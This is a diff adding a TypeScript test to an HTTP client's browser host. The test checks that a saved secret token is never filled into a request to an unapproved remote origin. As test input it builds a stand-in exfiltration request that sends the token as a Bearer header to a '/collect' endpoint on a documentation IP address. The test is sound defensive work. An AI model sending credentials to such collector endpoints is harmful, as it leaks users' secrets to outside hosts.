@@ -316,6 +316,25 @@ describe('browser host: the page reads and writes only what the user chose', () 
   });
 });
 
+describe('browser host: a page holding the token cannot send secrets where the user did not say', () => {
+  it('refuses to fill a secret into a request to another machine, or to hand it back as curl for one', async () => {
+    const SECRET = 'canary-secret-to-remote-5e0a';
+    const c = client();
+    await c.service.saveEnvironment({ name: 'Stolen', variables: [{ name: 'token', secret: true, value: SECRET }] });
+    // TEST-NET-1 (RFC 5737): nothing is sent; the refusal comes first.
+    const request = { method: 'GET', url: 'http://192.0.2.1:9/collect', headers: [['Authorization', 'Bearer {{token}}']] as [string, string][] };
+    const before = (await c.service.listSessions()).length;
+    const refused = await c.service.connect(request).then(
+      () => 'connected',
+      (error: unknown) => (error as Error).message,
+    );
+    expect(refused).toMatch(/^Refused to send \{\{token\}\} to http:\/\/192\.0\.2\.1:9: that origin was not approved for secrets\. The browser host sends secrets only to this machine and to the origins named when it starts: npm start -- --allow-secrets-to ORIGIN\.$/);
+    await expect(c.service.resolveRequest({ request, mode: 'with-secrets' })).rejects.toThrow(/^Refused to send \{\{token\}\}/);
+    expect((await c.service.listSessions()).length).toBe(before);
+    c.close();
+  });
+});
+
 describe('withoutFilesIn', () => {
   it('neither adds nor lists files inside the upload folder', async () => {
     const stored = ['/tmp/up/1a-x.sse', '/home/me/run.json.sse', '/tmp/upper/y.sse'];
